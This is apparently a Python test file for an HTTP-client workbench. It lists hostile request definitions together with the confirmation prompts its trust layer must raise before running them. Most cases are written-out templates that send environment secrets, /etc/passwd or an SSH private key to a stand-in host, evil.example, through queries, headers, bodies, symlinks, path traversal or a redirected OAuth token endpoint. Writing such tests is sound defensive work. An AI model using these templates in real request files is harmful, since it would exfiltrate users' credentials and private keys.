"""Hostile requests, and exactly what a person has to be asked before anything happens.

Must not hold a case that needs no question: those have tests of their own.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from workbench.domain.trust import Ask, AskKind

EVIL = "https://evil.example"
GOOD = "https://api.example.com"
SECRETS = {"SECRET": "s3cret", "HOST": "evil.example", "BASE": EVIL, "INNER": "{{env:SECRET}}"}
FILES = {
    "/ws/notes.txt": "notes",
    "/ws/.hidden": "hidden",
    "/ws/link.txt": "never reached",
    "/home/me/.ssh/id_rsa": "private key",
    "/etc/passwd": "root",
}
LINKS = {"/ws/link.txt": "/home/me/.ssh/id_rsa"}
PART = '[request.body]\ntype = "multipart"\n[[request.body.part]]\nname = "a"\n'
COLLECTION = '[collection]\nname = "X"\n'
OAUTH = """
[auth.crm]
type = "oauth2"
grant = "client_credentials"
token_url = "{token_url}"
client_id = "id"
client_secret = "{secret}"
"""


def source(name: str, origin: str) -> Ask:
    return Ask(AskKind.SOURCE, name, origin)


def preset(name: str, origin: str) -> Ask:
    return Ask(AskKind.PRESET, name, origin)


def outside(path: str) -> Ask:
    return Ask(AskKind.FILE, path)


@dataclass(frozen=True)
class Case:
    """A hostile request and exactly what has to be asked before anything happens."""

    name: str
    request: str
    asks: frozenset[Ask] | set[Ask]
    before: str = ""
    layer: str = ""
    shared: bool = False
    options: dict[str, Any] = field(default_factory=dict)


def get(url: str, more: str = "") -> str:
    return f'url = "{url}"\n{more}'


CRM_ASKS = {source("SECRET", "https://auth.example.com"), preset("crm", EVIL)}
CASES = [
    Case(
        "a source in the query",
        get(EVIL, '[request.query]\nq = "{{env:SECRET}}"'),
        {source("SECRET", EVIL)},
    ),
    Case(
        "a source in the path table",
        get(f"{EVIL}/:id", '[request.path]\nid = "{{env:SECRET}}"'),
        {source("SECRET", EVIL)},
    ),
    Case("a source in the address", get(f"{EVIL}/{{{{env:SECRET}}}}"), {source("SECRET", EVIL)}),
    Case(
        "a source in a header",
        get(EVIL, '[request.headers]\nX = "a {{env:SECRET}}"'),
        {source("SECRET", EVIL)},
    ),
    Case(
        "a source in a text body",
        get(EVIL, '[request.body]\ntype = "json"\ntext = "{{env:SECRET}}"'),
        {source("SECRET", EVIL)},
    ),
    Case(
        "a source in a form",
        get(EVIL, '[request.body]\ntype = "form"\nform = { a = "{{env:SECRET}}" }'),
        {source("SECRET", EVIL)},
    ),
    Case(
        "a source in a part",
        get(
            EVIL,
            PART + 'value = "{{env:SECRET}}"',
        ),
        {source("SECRET", EVIL)},
    ),
    Case(
        "a source in a file's name and type",
        get(
            EVIL,
            PART
            + 'file = "notes.txt"\nfilename = "{{env:SECRET}}"\ncontent_type = "a/{{env:BASE}}"',
        ),
        {source("SECRET", EVIL), source("BASE", EVIL)},
    ),
    Case(
        "a source in GraphQL variables",
        get(
            EVIL,
            '[request.body]\ntype = "graphql"\nquery = "{ a }"\nvariables = "{{env:SECRET}}"',
        ),
        {source("SECRET", EVIL)},
    ),
    Case(
        "a source in a body's content type",
        get(EVIL, '[request.body]\ntype = "text"\ntext = "x"\ncontent_type = "{{env:SECRET}}"'),
        {source("SECRET", EVIL)},
    ),
    Case(
        "a chain of variables that hides a source",
        get(EVIL, '[request.query]\nq = "{{a}}"'),
        {source("SECRET", EVIL)},
        before='[variables]\na = "x{{b}}"\nb = "{{c}}"\nc = "{{env:SECRET}}"\n',
    ),
    Case(
        "a source in a folder's header",
        get(EVIL, 'folder = "F"'),
        {source("SECRET", EVIL)},
        before='[[folder]]\npath = "F"\n[folder.headers]\nX = "{{env:SECRET}}"\n',
    ),
    Case(
        "a variable of workbench.toml that a stranger's file sends away",
        get(EVIL, '[request.query]\nq = "{{ours}}"'),
        {source("SECRET", EVIL)},
        layer='[variables]\nours = "{{env:SECRET}}"\n',
    ),
    Case(
        "an environment that switches the address",
        get("{{base}}/x", '[request.query]\nq = "{{env:SECRET}}"'),
        {source("SECRET", EVIL)},
        before=f'[variables]\nbase = "{GOOD}"\n[environments.bad]\nbase = "{EVIL}"\n',
        options={"environment": "bad"},
    ),
    Case(
        "a file beside the collection",
        get(EVIL, '[request.query]\nq = "{{file:notes.txt}}"'),
        {source("notes.txt", EVIL)},
    ),
    Case(
        "a file above the collection",
        get(EVIL, '[request.query]\nq = "{{file:../etc/passwd}}"'),
        {outside("/etc/passwd"), source("/etc/passwd", EVIL)},
    ),
    Case(
        "an absolute path",
        get(EVIL, '[request.query]\nq = "{{file:/etc/passwd}}"'),
        {outside("/etc/passwd"), source("/etc/passwd", EVIL)},
    ),
    Case(
        "a symlink out of the directory",
        get(EVIL, '[request.query]\nq = "{{file:link.txt}}"'),
        {outside("/home/me/.ssh/id_rsa"), source("/home/me/.ssh/id_rsa", EVIL)},
    ),
    Case(
        "a hidden file",
        get(EVIL, '[request.query]\nq = "{{file:.hidden}}"'),
        {outside("/ws/.hidden"), source("/ws/.hidden", EVIL)},
    ),
    Case(
        "a body that is a file elsewhere",
        get(EVIL, '[request.body]\ntype = "file"\nfile = "../etc/passwd"'),
        {outside("/etc/passwd"), source("/etc/passwd", EVIL)},
    ),
    Case(
        "a body whose path a variable hides",
        get(EVIL, '[request.body]\ntype = "file"\nfile = "{{p}}"'),
        {outside("/home/me/.ssh/id_rsa"), source("/home/me/.ssh/id_rsa", EVIL)},
        before='[variables]\np = "link.txt"\n',
    ),
    Case(
        "a part that is a file elsewhere",
        get(
            EVIL,
            PART + 'file = "/etc/passwd"',
        ),
        {outside("/etc/passwd"), source("/etc/passwd", EVIL)},
    ),
    Case(
        "a file elsewhere even to this machine",
        get("http://localhost:1/", '[request.body]\ntype = "file"\nfile = "/etc/passwd"'),
        {outside("/etc/passwd")},
    ),
    Case(
        "a certificate file elsewhere",
        get(EVIL, '[request.settings]\nca_file = "/etc/passwd"'),
        {outside("/etc/passwd"), source("/etc/passwd", EVIL)},
    ),
    Case(
        "the home directory as workspace",
        get(EVIL, '[request.query]\nq = "{{file:notes.txt}}"'),
        {outside("/ws/notes.txt"), source("/ws/notes.txt", EVIL)},
        shared=True,
    ),
    Case(
        "a body file with the home directory as workspace",
        get(EVIL, '[request.body]\ntype = "file"\nfile = "notes.txt"'),
        {outside("/ws/notes.txt"), source("/ws/notes.txt", EVIL)},
        shared=True,
    ),
    Case(
        "a preset's token to a foreign API",
        get(EVIL, 'auth = "crm"'),
        CRM_ASKS,
        before=OAUTH.format(token_url="https://auth.example.com/t", secret="{{env:SECRET}}"),
    ),
    Case(
        "a token endpoint elsewhere",
        get(GOOD, 'auth = "crm"'),
        {source("SECRET", EVIL), preset("crm", GOOD)},
        before=OAUTH.format(token_url=f"{EVIL}/t", secret="{{env:SECRET}}"),
    ),
    Case(
        "a token endpoint that an environment moved",
        get(GOOD, 'auth = "crm"'),
        {source("SECRET", EVIL), preset("crm", GOOD)},
        before=OAUTH.format(token_url="{{a}}/t", secret="{{env:SECRET}}")
        + f'[variables]\na = "{GOOD}"\n[environments.bad]\na = "{EVIL}"\n',
        options={"environment": "bad"},
    ),
    Case(
        "a secret written in workbench.toml to a token endpoint that the collection chose",
        get(GOOD, 'auth = "crm"'),
        {preset("crm", EVIL), preset("crm", GOOD)},
        before=f'[variables]\na = "{EVIL}"\n',
        layer=OAUTH.format(token_url="{{a}}/t", secret="literal"),
    ),
    Case(
        "a key of workbench.toml to a foreign API",
        get(EVIL, 'auth = "ours"'),
        {preset("ours", EVIL)},
        layer='[auth.ours]\ntype = "api_key"\nname = "k"\nvalue = "literal"\n',
    ),
    Case(
        "an inline preset",
        get(EVIL, 'auth = { type = "bearer", token = "{{env:SECRET}}" }'),
        {source("SECRET", EVIL), preset("R", EVIL)},
    ),
    Case(
        "an inline oauth2 preset with its own parameters",
        get(
            GOOD,
            'auth = { type = "oauth2", grant = "client_credentials", '
            f'token_url = "{EVIL}/t", client_id = "{{{{env:SECRET}}}}" }}',
        ),
        {source("SECRET", EVIL), preset("R", GOOD)},
    ),
    Case(
        "a host from a source",
        get("https://{{env:HOST}}/x", '[request.query]\nq = "{{env:SECRET}}"'),
        {source("HOST", "https://{{env:HOST}}"), source("SECRET", "https://{{env:HOST}}")},
    ),
    Case(
        "a source glued to a trusted host",
        get(f"{GOOD}{{{{env:SECRET}}}}/x"),
        {source("SECRET", GOOD + "{{env:SECRET}}")},
    ),
    Case(
        "a port from a source",
        get(f"{GOOD}:{{{{env:SECRET}}}}/x"),
        {source("SECRET", GOOD + ":{{env:SECRET}}")},
    ),
    Case(
        "an address that is a source",
        get("{{env:BASE}}/x"),
        {source("BASE", "{{env:BASE}}")},
    ),
    Case(
        "a host that only looks like this machine",
        get("http://127.0.0.1.evil.example/", '[request.query]\nq = "{{env:SECRET}}"'),
        {source("SECRET", "http://127.0.0.1.evil.example")},
    ),
    Case(
        "another port of a trusted host",
        get(f"{GOOD}:8443/", '[request.query]\nq = "{{env:SECRET}}"'),
        {source("SECRET", f"{GOOD}:8443")},
    ),
    Case(
        "the same host unencrypted",
        get("http://api.example.com/", '[request.query]\nq = "{{env:SECRET}}"'),
        {source("SECRET", "http://api.example.com")},
    ),
    Case(
        "certificates that are not verified",
        get(EVIL, "[request.settings]\nverify = false"),
        {Ask(AskKind.VERIFY, "verify", EVIL)},
    ),
    Case(
        "certificates that are not verified at the token endpoint",
        get("http://localhost/", 'auth = "crm"'),
        {
            Ask(AskKind.VERIFY, "verify", "http://localhost"),
            Ask(AskKind.VERIFY, "verify", "https://auth.example.com"),
            source("SECRET", "https://auth.example.com"),
        },
        before="[settings]\nverify = false\n"
        + OAUTH.format(token_url="https://auth.example.com/t", secret="{{env:SECRET}}"),
    ),
    Case(
        "a proxy",
        get(
            GOOD, '[request.query]\nq = "{{env:SECRET}}"\n[request.settings]\nproxy = "http://p:1"'
        ),
        {Ask(AskKind.PROXY, "http://p:1"), source("SECRET", GOOD)},
    ),
    Case(
        "a client key",
        get(EVIL, '[request.settings]\nclient_certificate = "notes.txt"\nclient_key = "notes.txt"'),
        {Ask(AskKind.CLIENT_KEY, "/ws/notes.txt", EVIL)},
    ),
    Case(
        "a client certificate that holds its key",
        get(EVIL, '[request.settings]\nclient_certificate = "notes.txt"'),
        {Ask(AskKind.CLIENT_KEY, "/ws/notes.txt", EVIL)},
    ),
    Case(
        "a source whose value is another template",
        get(EVIL, '[request.query]\nq = "{{env:INNER}}"'),
        {source("INNER", EVIL)},
    ),
]
